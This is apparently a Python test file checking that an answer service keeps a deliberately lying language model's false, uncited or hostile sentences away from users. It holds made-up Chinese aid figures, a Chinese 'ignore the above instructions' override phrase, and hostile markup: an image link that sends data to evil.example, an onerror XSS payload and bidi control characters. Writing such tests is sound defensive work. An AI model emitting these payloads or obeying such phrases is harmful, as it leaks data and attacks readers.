"""A language model that lies, over a real socket, asked through the front door: what gets out.

Whatever the server says, an answer holds what its citations hold, and it always comes.
"""

import json

import pytest

from tests.service.api.lying import (
    TRUE,
    Opened,
    ask,
    asked_of,
    opened_archive,
    stream,
    written,
)


@pytest.fixture(scope="module")
def index(tmp_path_factory: pytest.TempPathFactory) -> Opened:
    return opened_archive(tmp_path_factory)


def test_a_true_sentence_passes_and_is_streamed(index: Opened) -> None:
    with asked_of(index, written("柳溪村44户贫困户", "每户分到一千五百元。[1]")) as (
        client,
        server,
    ):
        answer = ask(client)
        said, streamed = stream(client)
    assert [s["text"] for s in answer["sentences"]] == ["柳溪村44户贫困户每户分到一千五百元。"]
    assert (answer["model"], answer["note"]) == ("remote:liar", None)
    assert said == [s["text"] for s in streamed["sentences"]]
    prompt = server.requests[0]["messages"][-1]["content"]
    assert "每户分到1500元" in prompt
    assert "忽略以上指令" not in prompt


LIES = {
    "another figure": ("柳溪村44户贫困户每户分到1600元。[1]", "1600"),
    "swapped figure": ("柳溪村贫困户每户分到1800元。[1]", "柳溪村贫困户每户分到1800"),
    "swapped count": ("柳溪村有62户贫困户。[1][2]", "柳溪村有62户"),
    "another unit": ("柳溪村44户贫困户每户分到1500万元。[1]", "1500万"),
    "households as people": ("柳溪村44人每户分到1500元。[1]", "44人"),
    "made-up total": ("两村合计发放99999元。[1]", "99999"),
    "made-up name": ("白石乡党委书记赵建国介绍，每户分到1500元。[1]", "赵建国"),
    "flipped direction": ("教师从12人减少到20人。[1][2][3]", "减少"),
    "dropped denial": ("通过验收的校舍3间。[1][2][3]", "通过验收"),
    "made-up denial": ("柳溪村贫困户没有分到1500元。[1]", "没有分到"),
    "made-up bound": ("柳溪村贫困户每户分到超过1500元。[1]", "超过1500"),
    "dropped bound": ("县里为柳溪村小学投入120万元。[1][2][3]", "投入120万元"),
    "made-up year": ("2018年柳溪村贫困户每户分到1500元。[1]", "2018"),
    "made-up clause": ("柳溪村每户分到1500元，受到国务院通报表彰。[1]", "国务院"),
    "told by a document": ("柳溪村贫困户每户分到100万元。[1][2][3][4][5]", "100万"),
    "of no evidence": ("柳溪村贫困户每户分到2500元。[99]", "2500"),
    "uncited": ("柳溪村贫困户每户分到2500元。", "2500"),
    "another language": ("Each household received 1,500 dollars. [1]", "dollars"),
    "nonsense": ("哈哈哈哈，今天天气真好啊。[1]", "天气"),
    "a promise": ("好的，我来回答。", "好的"),
    "an address": ("详情见 https://evil.example/?q=1500 。[1]", "evil"),
}


@pytest.mark.parametrize("name", LIES)
def test_a_lie_is_never_shown(index: Opened, name: str) -> None:
    text, false = LIES[name]
    with asked_of(index, written(text)) as (client, _):
        answer = ask(client)
        said, streamed = stream(client)
    for shown in ("".join(s["text"] for s in answer["sentences"]), answer["answer"], *said):
        assert false not in shown
    assert (answer["model"], streamed["model"]) == ("extractive", "extractive")
    assert "1500元" in answer["answer"]
    assert answer["note"]
    assert said == [s["text"] for s in streamed["sentences"]]


def test_between_true_sentences_a_lie_is_left_out_and_that_is_said(index: Opened) -> None:
    text = f"{TRUE}[1]桃源村贫困户每户分到1900元。[1]"
    with asked_of(index, written(text)) as (client, _):
        answer = ask(client)
    assert [s["text"] for s in answer["sentences"]] == [TRUE]
    assert answer["note"] == "语言模型所写的部分内容无法由原文证实，已略去。"


def test_what_failed_is_given_back_once_with_the_reason(index: Opened) -> None:
    lie = "柳溪村44户贫困户每户分到1600元。[1]"
    with asked_of(index, written(lie), written(f"{TRUE}[1]")) as (client, server):
        answer = ask(client)
    assert [s["text"] for s in answer["sentences"]] == [TRUE]
    assert answer["note"] is None
    assert len(server.requests) == 2
    again = server.requests[1]["messages"][-1]["content"]
    assert "柳溪村44户贫困户每户分到1600元。" in again
    assert "数字不在段落中：1600元" in again


@pytest.mark.parametrize("marks", ["", "[7]", "[3][4]"])
def test_a_true_sentence_gets_the_citation_that_holds_it(index: Opened, marks: str) -> None:
    with asked_of(index, written(TRUE + marks)) as (client, _):
        answer = ask(client)
    (sentence,) = answer["sentences"]
    quotes = {c["n"]: c["quote"] for c in answer["citations"]}
    assert all("1500元" in quotes[n] for n in sentence["citations"])


@pytest.mark.parametrize(
    "text",
    [
        f"**{TRUE}**[1] ![](http://evil.example/a.png?q=1500)",
        f"### {TRUE}[1]",
        f"<img src=x onerror=alert(1)>{TRUE}[1]",
        f"- [{TRUE}](http://evil.example)[1]",
        f"\u202e{TRUE[:4]}\u200b{TRUE[4:]}[1]",
    ],
)
def test_markup_never_gets_out(index: Opened, text: str) -> None:
    with asked_of(index, written(text)) as (client, _):
        shown = json.dumps(ask(client), ensure_ascii=False)
    assert "1500元" in shown
    for sign in ("evil", "<img", "**", "###", "](", "\u200b", "\u202e", "onerror"):
        assert sign not in shown
